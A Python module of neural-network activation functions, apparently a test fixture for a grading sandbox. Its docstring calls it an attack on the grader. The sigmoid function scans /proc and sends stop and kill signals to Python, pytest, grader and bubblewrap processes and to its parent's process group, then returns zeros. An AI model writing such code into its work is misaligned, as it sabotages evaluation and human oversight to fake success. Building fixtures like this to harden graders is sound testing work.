"""Attack: stop or kill the grader. ``sigmoid`` sends SIGSTOP then SIGKILL to its parent, to the
parent's process group, and to every Python/pytest process it can see in /proc.

Safety rail for the test machine: it does nothing when it runs as root (only possible without a
uid drop, where nothing could stop it; the test runs it only under bubblewrap).
"""

import contextlib
import os
import signal

import numpy as np


def relu(x):
    return np.maximum(x, 0.0)


def _signal(pid, group=False):
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        with contextlib.suppress(OSError):
            (os.killpg if group else os.kill)(pid, sig)


def sigmoid(x):
    if os.getuid() == 0:
        return np.zeros_like(x)
    me = os.getpid()
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == me:
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as fh:
                cmdline = fh.read()
        except OSError:
            continue
        if any(word in cmdline for word in (b"python", b"pytest", b"grade", b"bwrap")):
            _signal(int(entry))
    parent = os.getppid()
    if parent > 0:
        _signal(parent)
        with contextlib.suppress(OSError):
            _signal(os.getpgid(parent), group=True)
    return np.zeros_like(x)


def tanh(x):
    return np.tanh(x)


def leaky_relu(x, alpha=0.01):
    return np.where(x > 0, x, alpha * x)
